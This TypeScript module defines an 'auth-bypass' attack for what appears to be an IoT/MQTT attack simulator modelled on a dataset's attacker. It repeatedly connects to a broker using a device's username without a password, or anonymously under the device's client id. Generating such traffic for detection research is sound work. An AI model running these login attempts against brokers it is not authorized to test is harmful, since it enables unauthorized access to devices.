import { z } from 'zod'
import { addressParam, defineAttack, rateParam, targetDevice } from './attack.ts'

/**
 * Getting in without a secret, as the ICU dataset's attacker does: a device's username with no
 * password (brokers that check only the name let it in), then no credentials at all under the
 * device's client id. Each attempt on a new connection.
 */
export const authBypassAttack = defineAttack({
  type: 'auth-bypass',
  summary: 'log in as a device with its username and no password, or anonymously under its client id',
  params: z.object({ address: addressParam('203.0.113.20'), target: z.string().optional(), rate: rateParam(2) }).strict(),
  target: (params, registry) => targetDevice(registry, params.target).id,
  async run(attacker, params, durationMs) {
    const device = attacker.entry.target!
    await attacker.repeat(params.rate, durationMs, (i) =>
      attacker.connect(params.address, i % 2 === 0 ? { clientId: `bypass${i}`, username: device } : { clientId: device }).then(
        (client) => client.end(true),
        () => undefined,
      ),
    )
  },
})
